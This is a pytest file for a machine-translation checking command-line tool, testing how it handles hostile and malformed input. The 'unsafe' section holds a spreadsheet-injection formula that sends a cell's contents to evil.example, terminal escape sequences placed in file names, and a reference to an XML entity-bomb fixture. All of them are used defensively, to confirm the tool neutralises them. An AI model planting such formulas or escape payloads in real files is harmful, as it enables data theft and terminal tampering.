"""Hostile and careless input, as a new user brings it (issue 34).

Every case runs the command line on files written into its own input folder and asserts three things:
the exit code (0 for a correct output, 2 for a one-line error, never 1 or 3 unless the case is a gate),
the message or the output that says what happened, and that every input file is byte for byte what it
was. A case is a function that writes its inputs and returns the arguments, what to expect, and an
optional check of the output.
"""

from __future__ import annotations

import csv
import hashlib
import json
import os
import subprocess
import sys
import threading
from dataclasses import dataclass, field
from pathlib import Path

import pytest
from typer.testing import CliRunner

from conftest import DATA, ROOT
from mtcheck.cli import app

FAST = ["--no-embedding", "--fluency", "off", "-q"]
ESC = "\x1b"


@dataclass
class Case:
    args: list
    code: int
    says: tuple = ()                 # substrings of the console output (stderr and stdout)
    check: object = None             # check(out_folder, result) for the output
    stdin: bytes | None = None
    not_says: tuple = field(default=(ESC, "Traceback", "internal error"))


def _snapshot(folder: Path) -> dict:
    return {p.relative_to(folder).as_posix(): hashlib.sha256(p.read_bytes()).hexdigest()
            for p in sorted(folder.rglob("*")) if p.is_file()}


def _write(path: Path, text: str, encoding: str = "utf-8") -> Path:
    path.write_bytes(text.encode(encoding))
    return path


def _tsv(path: Path, header: list, rows: list) -> Path:
    """A TSV as people write them: cells joined by tabs, quotes and all, no escaping."""
    path.write_text("".join("\t".join(map(str, r)) + "\n" for r in [header, *rows]), encoding="utf-8")
    return path


def _rows(out: Path) -> list[dict]:
    with (out / "segments.csv").open(encoding="utf-8-sig", newline="") as handle:
        return list(csv.DictReader(handle))


def _report(inp: Path, out: Path, *extra) -> None:
    """A finished report of a small table in `out`, for the cases about re-runs."""
    table = _tsv(inp / "t.tsv", ["src", "mt"], [["你好。", "Hello."], ["谢谢。", "Thank you."]])
    result = CliRunner().invoke(app, ["check", str(table), "-o", str(out), *FAST, *extra])
    assert result.exit_code == 0, result.output


# --- unsafe --------------------------------------------------------------------------------------------

def case_header_formula_is_text_in_csv_and_xlsx(inp, out):
    from openpyxl import load_workbook

    formula = '=HYPERLINK("http://evil.example/?d="&D2,"Click")'
    table = _tsv(inp / "t.tsv", ["src", "mt", "ref", formula], [["你好", "Hello", "Hello", "x"]])

    def check(out, result):
        header = next(csv.reader((out / "segments.csv").open(encoding="utf-8")))
        assert "'" + formula in header and formula not in header
        sheet = load_workbook(out / "segments.xlsx").active
        cells = [c for c in sheet[1] if c.value == formula]
        assert cells and cells[0].data_type == "s" and cells[0].quotePrefix
        assert all(c.data_type != "f" for row in sheet.iter_rows() for c in row)
        assert sheet.title == "segments"
    return Case(["check", table, "-o", out, "--xlsx", *FAST], 0, check=check)


def case_formula_text_in_cells_never_runs(inp, out):
    from openpyxl import load_workbook

    table = _tsv(inp / "t.tsv", ["src", "mt"], [["一", "=1+2"], ["二", "@SUM(A1:A2)"], ["三", "-3+4 is it"]])

    def check(out, result):
        sheet = load_workbook(out / "segments.xlsx").active
        mts = [row[3] for row in sheet.iter_rows(min_row=2)]
        assert [c.value for c in mts] == ["=1+2", "@SUM(A1:A2)", "-3+4 is it"]
        assert all(c.data_type == "s" and c.quotePrefix for c in mts)
        assert [r["mt"] for r in _rows(out)] == ["'=1+2", "'@SUM(A1:A2)", "'-3+4 is it"]
    return Case(["check", table, "-o", out, "--xlsx", *FAST], 0, check=check)


def case_control_characters_reach_the_xlsx_safely(inp, out):
    from openpyxl import load_workbook

    table = _tsv(inp / "t.tsv", ["mt"], [["Bell \x07 and form feed \x0c inside."]])

    def check(out, result):
        sheet = load_workbook(out / "segments.xlsx").active
        column = [c.value for c in sheet[1]].index("mt")
        assert sheet.cell(row=2, column=column + 1).value == "Bell \ufffd and form feed \ufffd inside."
    return Case(["check", table, "-o", out, "--xlsx", *FAST], 0, check=check)


def case_escape_sequence_in_a_missing_file_name(inp, out):
    name = inp / f"news{ESC}[31mRED{ESC}]0;title\x07.txt"
    return Case(["check", "-t", name, "-o", out, *FAST], 2, says=("not found", "\\x1b[31mRED"))


def case_escape_sequence_in_a_file_name_that_exists(inp, out):
    path = _write(inp / f"page{ESC}[2J.txt", "The council met on Tuesday.\n")
    args = ["check", "-t", path, "-o", out, "--no-embedding", "--fluency", "off"]  # not quiet: the summary prints
    return Case(args, 0, says=("\\x1b[2J",))


# --- an editor's work --------------------------------------------------------------------------------

def _fill_xlsx(path: Path, column: str, value: str) -> None:
    from openpyxl import load_workbook

    book = load_workbook(path)
    sheet = book.active
    header = [c.value for c in sheet[1]]
    sheet.cell(row=2, column=header.index(column) + 1, value=value)
    book.save(path)


def case_status_typed_into_the_xlsx_is_kept(inp, out):
    _report(inp, out, "--xlsx")
    _fill_xlsx(out / "segments.xlsx", "status", "fixed")
    return Case(["check", inp / "t.tsv", "-o", out, "--xlsx", *FAST], 2,
                says=("segments.xlsx holds editors'", "--force"), check="unchanged")


def case_note_typed_into_the_xlsx_is_kept(inp, out):
    _report(inp, out, "--xlsx")
    _fill_xlsx(out / "segments.xlsx", "editor_note", "check the name")
    return Case(["check", inp / "t.tsv", "-o", out, "--xlsx", *FAST], 2, says=("segments.xlsx",), check="unchanged")


def case_force_overwrites_the_edited_xlsx(inp, out):
    _report(inp, out, "--xlsx")
    _fill_xlsx(out / "segments.xlsx", "status", "fixed")

    def check(out, result):
        from mtcheck.io.worklist import has_editor_work

        assert not has_editor_work(out / "segments.xlsx")
    return Case(["check", inp / "t.tsv", "-o", out, "--xlsx", "--force", *FAST], 0, check=check)


def case_edited_xlsx_stays_when_no_xlsx_is_written(inp, out):
    _report(inp, out, "--xlsx")
    _fill_xlsx(out / "segments.xlsx", "status", "ok")
    before = (out / "segments.xlsx").read_bytes()

    def check(out, result):
        assert (out / "segments.xlsx").read_bytes() == before
    return Case(["check", inp / "t.tsv", "-o", out, *FAST], 0, check=check)


def _resave_csv(path: Path, delimiter: str, encoding: str) -> None:
    rows = list(csv.reader(path.open(encoding="utf-8-sig", newline="")))
    rows[1][rows[0].index("status")] = "fixed"
    # Excel writes what its code page lacks as "?".
    with path.open("w", encoding=encoding, errors="replace", newline="") as handle:
        csv.writer(handle, delimiter=delimiter, lineterminator="\r\n").writerows(rows)


@pytest.mark.parametrize("dialect", [(";", "utf-8-sig"), (";", "cp1252"), ("\t", "utf-16")])
def test_csv_an_editor_resaved_in_excels_dialects_is_kept(tmp_path, dialect):
    """Excel's "CSV UTF-8" with ';' and a BOM, "CSV (Comma delimited)" in the code page with the
    locale's ';', and "Unicode Text" (tab-separated UTF-16)."""
    inp, out = tmp_path / "in", tmp_path / "out"
    inp.mkdir()
    _report(inp, out)
    _resave_csv(out / "segments.csv", *dialect)
    before = _snapshot(out)
    result = CliRunner().invoke(app, ["check", str(inp / "t.tsv"), "-o", str(out), *FAST])
    assert result.exit_code == 2 and "segments.csv holds editors'" in result.output
    assert _snapshot(out) == before


def case_verdicts_file_inside_the_output_folder(inp, out):
    _report(inp, out)
    _resave_csv(out / "segments.csv", ",", "utf-8")
    return Case(["check", inp / "t.tsv", "-o", out, "--verdicts", out / "segments.csv", "--force", *FAST], 2,
                says=("is where the input files are (segments.csv among them)",), check="unchanged")


# --- crashes that must be one line -------------------------------------------------------------------

def case_output_folder_not_writable(inp, out):
    table = _tsv(inp / "t.tsv", ["mt"], [["Hello there."]])
    locked = inp.parent / "locked"
    locked.mkdir()
    if os.geteuid() == 0:
        done = subprocess.run(["chattr", "+i", str(locked)], capture_output=True)
        if done.returncode != 0:
            pytest.skip("running as root on a file system without chattr +i: nothing is unwritable")
    else:
        locked.chmod(0o555)
    return Case(["check", table, "-o", locked / "report", *FAST], 2, says=("is not writable",),
                check=lambda out, result: not (locked / "report").exists())


def case_output_is_a_file(inp, out):
    table = _tsv(inp / "t.tsv", ["mt"], [["Hello there."]])
    target = _write(inp.parent / "a-file", "mine\n")
    return Case(["check", table, "-o", target, *FAST], 2, says=("exists and is not a folder",),
                check=lambda out, result: target.read_text() == "mine\n")


@pytest.mark.parametrize("name", ["segments.csv", "report.html", "summary.json", "findings.csv"])
def test_annotated_xliff_never_takes_a_report_files_name(tmp_path, name):
    inp, out = tmp_path / "in", tmp_path / "out"
    inp.mkdir()
    xlf = inp / "sample-1.2.xlf"
    xlf.write_bytes((DATA / "formats" / "sample-1.2.xlf").read_bytes())
    before = _snapshot(inp)
    result = CliRunner().invoke(app, ["check", str(xlf), "--annotate-xliff", str(out / name), "-o", str(out),
                                      *FAST])
    assert result.exit_code == 2 and "is a file of the report" in result.output
    assert not out.exists() and _snapshot(inp) == before


def case_annotated_xliff_into_a_missing_folder(inp, out):
    xlf = inp / "sample-1.2.xlf"
    xlf.write_bytes((DATA / "formats" / "sample-1.2.xlf").read_bytes())
    return Case(["check", xlf, "--annotate-xliff", inp.parent / "nowhere" / "a.xlf", "-o", out, *FAST], 2,
                says=("does not exist",), check=lambda out, result: not out.exists())


def case_annotated_xliff_over_its_input(inp, out):
    xlf = inp / "sample-1.2.xlf"
    xlf.write_bytes((DATA / "formats" / "sample-1.2.xlf").read_bytes())
    return Case(["check", xlf, "--annotate-xliff", xlf, "-o", out, *FAST], 2, says=("is the input",))


# --- confident nonsense --------------------------------------------------------------------------------

def _mt_only(inp, out, *lines, extra=()):
    path = _write(inp / "mt.txt", "".join(f"{line}\n" for line in lines))
    return ["check", "-t", path, "-o", out, "--no-embedding", "-q", *extra]


def _flagged(severity_at_least: str, *, quality_below: float | None = None, checks: str | None = None):
    from mtcheck.schema import SEVERITY_RANK

    def check(out, result):
        for row in _rows(out):
            assert SEVERITY_RANK[row["severity"]] >= SEVERITY_RANK[severity_at_least], row
            assert row["route"] != "publish", row
            if quality_below is not None:
                assert float(row["quality"]) <= quality_below, row
            if checks is not None:
                assert checks in row["checks"].split(";"), row
    return check


def case_punctuation_loop(inp, out):
    return Case(_mt_only(inp, out, "The prices rose sharply" + "!" * 80, extra=("--fluency", "off")), 0,
                check=_flagged("major", quality_below=80, checks="character-loop"))


def case_chinese_full_stop_loop(inp, out):
    return Case(_mt_only(inp, out, "The report said that" + "。" * 50, extra=("--fluency", "off")), 0,
                check=_flagged("major", quality_below=80, checks="character-loop"))


def case_letter_loop_with_the_language_model(inp, out):
    return Case(_mt_only(inp, out, "a" * 200), 0, check=_flagged("critical", quality_below=0.01))


def case_thank_you_three_times(inp, out):
    return Case(_mt_only(inp, out, "Thank you. Thank you. Thank you.", extra=("--fluency", "off")), 0,
                check=_flagged("major", quality_below=80, checks="repeated-phrase"))


def case_empty_mt_line_in_an_mt_only_run(inp, out):
    def check(out, result):
        rows = _rows(out)
        assert rows[1]["mt"] == "" and rows[1]["checks"] == "empty-mt" and rows[1]["route"] != "publish"
        assert "No problem found" not in rows[1]["explanation"]
    return Case(_mt_only(inp, out, "The council met.", "", "It approved the plan.", extra=("--fluency", "off")), 0,
                check=check)


def case_copied_short_segment_is_never_a_top_score(inp, out):
    table = _tsv(inp / "t.tsv", ["src", "mt"], [["Bonjour tout le monde", "Bonjour tout le monde"],
                                               ["Merci beaucoup.", "Thank you very much."]])

    def check(out, result):
        row = _rows(out)[0]
        assert row["severity"] in ("major", "critical") and float(row["quality"]) <= 80
    return Case(["check", table, "-o", out, "--source-lang", "fr", "--target-lang", "de", *FAST], 0, check=check)


def case_every_route_is_explained(inp, out):
    def check(out, result):
        for row in _rows(out):
            assert f"Route: {row['route']}" in row["explanation"], row
    return Case(_mt_only(inp, out, "Prices rose.", "The the the cat.", "Micro Video | News", "",
                         extra=("--fluency", "off")), 0, check=check)


@pytest.mark.parametrize("tag, stored", [("eng", "en"), ("en_GB", "en-GB"), ("EN-us", "en-US"), ("deu", "de"),
                                         ("iw", "he"), ("zh_Hans", "zh-Hans")])
def test_language_tags_users_write_are_normalised(tmp_path, tag, stored):
    path = _write(tmp_path / "mt.txt", "The committee approved the budget for the coming year on Monday.\n")
    result = CliRunner().invoke(app, ["check", "-t", str(path), "-o", str(tmp_path / "o"), "--target-lang", tag,
                                      *FAST])
    assert result.exit_code == 0, result.output
    summary = json.loads((tmp_path / "o" / "summary.json").read_text(encoding="utf-8"))
    assert summary["options"]["target_lang"] == stored
    if stored.startswith("en"):
        assert "wrong-language" not in _rows(tmp_path / "o")[0]["checks"]


@pytest.mark.parametrize("option, tag, says", [("--target-lang", "xx-banana", "is not a language tag"),
                                                ("--target-lang", "", "is empty"),
                                                ("--target-lang", "klingon", "is not a language tag"),
                                                ("--target-lang", "x-private", "no checks or models"),
                                                ("--source-lang", "qqq", "--source-lang 'qqq'")])
def test_language_tags_that_name_nothing_are_refused(tmp_path, option, tag, says):
    path = _write(tmp_path / "mt.txt", "Hello.\n")
    result = CliRunner().invoke(app, ["check", "-t", str(path), "-o", str(tmp_path / "o"), option, tag, *FAST])
    assert result.exit_code == 2 and says in result.output and "supported languages: " in result.output
    assert " en " in result.output and len(result.output.strip().splitlines()) == 1
    assert not (tmp_path / "o").exists()


# --- verdicts ------------------------------------------------------------------------------------------

def _verdict_case(inp, out, statuses):
    """Three rows of one repeated headline; the verdicts file reviews the first two."""
    text = "Micro Video | Strengthening the Construction of the Party's Style"
    mt = _write(inp / "mt.txt", f"{text}\nThe council met on Tuesday.\n{text}\n{text}\n")
    first = out.parent / "first"
    result = CliRunner().invoke(app, ["check", "-t", str(mt), "-o", str(first), *FAST])
    assert result.exit_code == 0, result.output
    rows = list(csv.DictReader((first / "segments.csv").open(encoding="utf-8")))
    for row, status in zip([rows[0], rows[2]], statuses):
        row["status"] = status
    verdicts = inp / "reviewed.csv"
    with verdicts.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.DictWriter(handle, fieldnames=list(rows[0]))
        writer.writeheader()
        writer.writerows(rows)
    return ["check", "-t", mt, "-o", out, "--verdicts", verdicts, *FAST]


def case_conflicting_verdicts_are_shown_not_decided(inp, out):
    def check(out, result):
        rows = _rows(out)
        assert "Editors disagreed on this text" in rows[3]["explanation"]
        assert rows[3]["checks"] == rows[0]["checks"] or rows[3]["checks"]  # nothing suppressed on row 4
        html = (out / "report.html").read_text(encoding="utf-8")
        data = json.loads(html.split('<script type="application/json" id="rows">')[1].split("</script>")[0])
        by_seg = {r["s"]: r for r in data}
        assert by_seg["1"]["pv"] == "false-alarm" and by_seg["3"]["pv"] == "fixed"
        assert "pv" not in by_seg["4"] and {v[0] for v in by_seg["4"]["iv"]} == {"false-alarm", "fixed"}
    return Case(_verdict_case(inp, out, ["false alarm", "fixed"]), 0, check=check)


def case_false_alarm_in_any_spelling(inp, out):
    def check(out, result):
        summary = json.loads((out / "summary.json").read_text(encoding="utf-8"))
        assert summary["verdicts"]["reviewed"] == 2 and summary["verdicts"]["suppressed_findings"] >= 2
    return Case(_verdict_case(inp, out, ["False Alarm", "FALSE_ALARM"]), 0, check=check)


def case_unknown_status_names_its_line(inp, out):
    return Case(_verdict_case(inp, out, ["maybe", "fixed"]), 2, says=("reviewed.csv:2: unknown status 'maybe'",))


# --- inputs --------------------------------------------------------------------------------------------

def case_standard_input_as_a_dash(inp, out):
    def check(out, result):
        rows = _rows(out)
        assert [r["mt"] for r in rows] == ["The first line.", "The second line."]
        assert rows[0]["doc_id"] == "stdin" and rows[0]["file"] == "<stdin>"
    return Case(["check", "-t", "-", "-o", out, *FAST], 0, check=check,
                stdin=b"The first line.\nThe second line.\n")


def case_nothing_piped_into_the_dash(inp, out):
    return Case(["check", "-t", "-", "-o", out, *FAST], 2, says=("the input is empty",), stdin=b"")


def case_a_named_pipe(inp, out):
    fifo = inp / "mt.fifo"
    os.mkfifo(fifo)

    def feed():
        with open(fifo, "wb") as handle:
            handle.write(b"One line from a pipe.\nAnd another.\n")
    threading.Thread(target=feed, daemon=True).start()
    return Case(["check", "-t", fifo, "-o", out, *FAST], 0,
                check=lambda out, result: len(_rows(out)) == 2 and _rows(out)[1]["mt"] == "And another.")


def case_one_stream_named_twice(inp, out):
    return Case(["check", "-t", "-", "-r", "-", "-o", out, *FAST], 2, says=("is named twice",), stdin=b"x\n")


def case_jsonl_list_where_text_belongs(inp, out):
    path = _write(inp / "t.jsonl", '{"mt": "Fine."}\n{"mt": ["Hello", "there"]}\n')
    return Case(["check", path, "-o", out, *FAST], 2, says=("t.jsonl:2: 'mt' is a list, not a text",))


def case_jsonl_boolean_reference(inp, out):
    path = _write(inp / "t.jsonl", '{"mt": "Fine.", "ref": true}\n')
    return Case(["check", path, "-o", out, *FAST], 2, says=("t.jsonl:1: 'ref' is a boolean",))


def case_jsonl_numbers_in_other_columns_are_carried(inp, out):
    path = _write(inp / "t.jsonl", '{"mt": "Fine.", "score": 3, "meta": {"a": 1}}\n')

    def check(out, result):
        row = _rows(out)[0]
        assert row["score"] == "3" and json.loads(row["meta"]) == {"a": 1}
    return Case(["check", path, "-o", out, *FAST], 0, check=check)


def case_empty_check_list(inp, out):
    return Case(_mt_only(inp, out, "Hello.", extra=("--checks", "", "--fluency", "off")), 2,
                says=("--checks names no check",))


def case_unknown_check(inp, out):
    return Case(_mt_only(inp, out, "Hello.", extra=("--checks", "spelling,nonsense", "--fluency", "off")), 2,
                says=("unknown check(s): nonsense",))


def case_latin1_file_gets_a_latin1_hint(inp, out):
    path = _write(inp / "mt.txt", "Le café est déjà prêt, répondit-elle.\n", encoding="latin-1")
    return Case(["check", "-t", path, "-o", out, *FAST], 2,
                says=("mt.txt:1: not valid UTF-8", "WINDOWS-1252"), not_says=("GB18030", ESC, "Traceback"))


def case_gb18030_file_gets_its_hint(inp, out):
    path = _write(inp / "mt.txt", "这是一个用中文写的句子，编码不对。\n", encoding="gb18030")
    return Case(["check", "-t", path, "-o", out, *FAST], 2, says=("GB18030",))


@pytest.mark.parametrize("option", ["--model", "--xmodel"])
def test_a_hub_model_name_fails_at_once(tmp_path, option):
    path = _write(tmp_path / "mt.txt", "Hello.\n")
    result = CliRunner().invoke(app, ["check", "-t", str(path), "-o", str(tmp_path / "o"), option,
                                      "sentence-transformers/LaBSE", "-q"])
    assert result.exit_code == 2 and "never downloads models" in result.output
    assert not (tmp_path / "o").exists()


def case_empty_file(inp, out):
    return Case(["check", "-t", _write(inp / "mt.txt", ""), "-o", out, *FAST], 2, says=("the input is empty",))


def case_binary_file(inp, out):
    path = inp / "mt.txt"
    path.write_bytes(b"\x00\x01\x02PNG\x00")
    return Case(["check", "-t", path, "-o", out, *FAST], 2, says=("binary",))


def case_folder_given_as_a_file(inp, out):
    (inp / "sub").mkdir()
    return Case(["check", "-t", inp / "sub", "-o", out, *FAST], 2, says=("is a folder",))


def case_damaged_gzip(inp, out):
    import gzip

    data = gzip.compress(b"src\tmt\n" + b"a\tb\n" * 2000)
    path = inp / "t.tsv.gz"
    path.write_bytes(data[: len(data) // 2])
    return Case(["check", path, "-o", out, *FAST], 2, says=("damaged gzip",))


def case_entity_bomb(inp, out):
    path = inp / "bomb.xlf"
    path.write_bytes((DATA / "formats" / "bomb.xlf").read_bytes())
    return Case(["check", path, "-o", out, *FAST], 2, says=("bomb.xlf",))


def case_missing_mt_column(inp, out):
    path = _tsv(inp / "t.tsv", ["source", "hypothesis"], [["a", "b"]])
    return Case(["check", path, "-o", out, *FAST], 2, says=("no 'mt' column", "'hypothesis'"))


def case_quoted_cell_never_closed(inp, out):
    path = _write(inp / "t.csv", 'src,mt\n"open,Fine.\n')
    return Case(["check", path, "-o", out, *FAST], 2, says=("never closed",))


CASES = {name[len("case_"):]: func for name, func in sorted(globals().items()) if name.startswith("case_")}


@pytest.mark.parametrize("name", sorted(CASES))
def test_hostile(tmp_path, name):
    inp, out = tmp_path / "in", tmp_path / "out"
    inp.mkdir()
    case = CASES[name](inp, out)
    before = _snapshot(inp)
    report_before = _snapshot(out) if out.exists() else None
    result = CliRunner().invoke(app, [str(a) for a in case.args], input=case.stdin)
    text = result.output
    assert result.exit_code == case.code, text
    for needle in case.says:
        assert needle in text, text
    for needle in case.not_says:
        assert needle not in text, text
    if case.code == 2:
        lines = [ln for ln in text.splitlines() if ln.startswith("mtcheck: error:")]
        assert len(lines) == 1, text
    assert _snapshot(inp) == before, "an input file changed"
    if case.check == "unchanged":
        assert _snapshot(out) == report_before, "the editor's report folder changed"
    elif case.check is not None:
        assert case.check(out, result) is not False


def test_pipe_through_a_real_shell(tmp_path):
    """`-t <(...)` and a pipe into `-t -`, as a shell runs them (a subprocess, not the test runner's stdin)."""
    out = tmp_path / "o"
    command = (f"printf 'A line.\\nAnother line.\\n' | {sys.executable} -m mtcheck check -t - "
               f"-r <(printf 'A line.\\nOne more line.\\n') -o {out} --no-embedding --fluency off -q")
    done = subprocess.run(["bash", "-c", command], capture_output=True, text=True, cwd=ROOT,
                          env={**os.environ, "HF_HUB_OFFLINE": "1"})
    assert done.returncode == 0, done.stderr
    rows = _rows(out)
    assert [r["ref"] for r in rows] == ["A line.", "One more line."] and rows[0]["chrf"] == "100.0"
